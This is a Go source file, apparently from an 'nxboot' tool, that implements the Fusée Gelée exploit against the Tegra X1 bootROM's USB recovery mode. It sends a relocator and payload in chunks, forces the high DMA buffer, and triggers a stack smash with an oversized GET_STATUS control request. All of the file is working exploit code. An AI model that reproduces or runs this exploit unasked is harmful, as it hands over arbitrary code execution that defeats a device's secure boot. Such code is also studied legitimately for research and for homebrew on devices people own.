// Package rcm implements the Fusée Gelée exploit against the Tegra X1
// bootROM's USB recovery mode (RCM): acquiring the device's vendor interface
// and sending a relocator and payload in the exact framing that makes the
// bootROM run them.
package rcm

import (
	"context"
	"encoding/hex"
	"errors"
	"fmt"

	"github.com/golang/glog"

	"github.com/nxboot/nxboot/pkg/devices"
)

const (
	// uidLen is the size of the device ID the bootROM sends on connection.
	uidLen = 16

	requestTypeEndpointIn = 0x82
	requestGetStatus      = 0x00
)

// Execute sends relocator and payload to an acquired device and triggers
// their execution. Size limits are checked before anything is sent. Transfer
// errors are never retried: the bootROM cannot resume a partial upload, the
// device needs to be re-plugged into RCM first.
//
// ctx is checked between bulk writes; cancellation surfaces as an *Error of
// KindCancelled.
func Execute(ctx context.Context, h *Handle, relocator, payload []byte) error {
	frame, err := BuildFrame(relocator, payload)
	if err != nil {
		return err
	}

	uid := make([]byte, uidLen)
	n, err := h.Read(uid)
	if err != nil {
		return &Error{Kind: KindTransferFailed, Err: fmt.Errorf("reading device ID: %w", err)}
	}
	glog.V(1).Infof("Device ID: %s", hex.EncodeToString(uid[:n]))

	glog.Infof("Sending 0x%x byte RCM frame (payload 0x%x bytes)...", len(frame), len(payload))
	sent, chunks := 0, 0
	for sent < len(frame) {
		if err := ctx.Err(); err != nil {
			return &Error{Kind: KindCancelled, Offset: sent, Err: err}
		}
		end := sent + ChunkSize
		if end > len(frame) {
			end = len(frame)
		}
		if _, err := h.Write(frame[sent:end]); err != nil {
			return &Error{Kind: KindTransferFailed, Offset: sent, Err: err}
		}
		glog.V(2).Infof("Sent chunk %d (0x%x/0x%x)", chunks, end, len(frame))
		sent = end
		chunks += 1
	}

	// The bootROM starts out receiving into the low DMA buffer and alternates
	// on every write. The smash must copy from the high one.
	if chunks%2 == 0 {
		if err := ctx.Err(); err != nil {
			return &Error{Kind: KindCancelled, Offset: sent, Err: err}
		}
		glog.V(2).Infof("Switching to high DMA buffer")
		if _, err := h.Write(make([]byte, ChunkSize)); err != nil {
			return &Error{Kind: KindTransferFailed, Offset: sent, Err: err}
		}
		sent += ChunkSize
	}

	if err := ctx.Err(); err != nil {
		return &Error{Kind: KindCancelled, Offset: sent, Err: err}
	}
	glog.Infof("Triggering payload...")
	_, err = h.Control(requestTypeEndpointIn, requestGetStatus, 0, 0, make([]byte, smashLen))
	switch {
	case err == nil:
	case errors.Is(err, devices.ErrTimeout):
		// Once the relocator runs, the bootROM never completes the request.
		glog.V(1).Infof("Trigger timed out, as expected")
	default:
		return &Error{Kind: KindTransferFailed, Offset: sent, Err: fmt.Errorf("trigger: %w", err)}
	}
	return nil
}
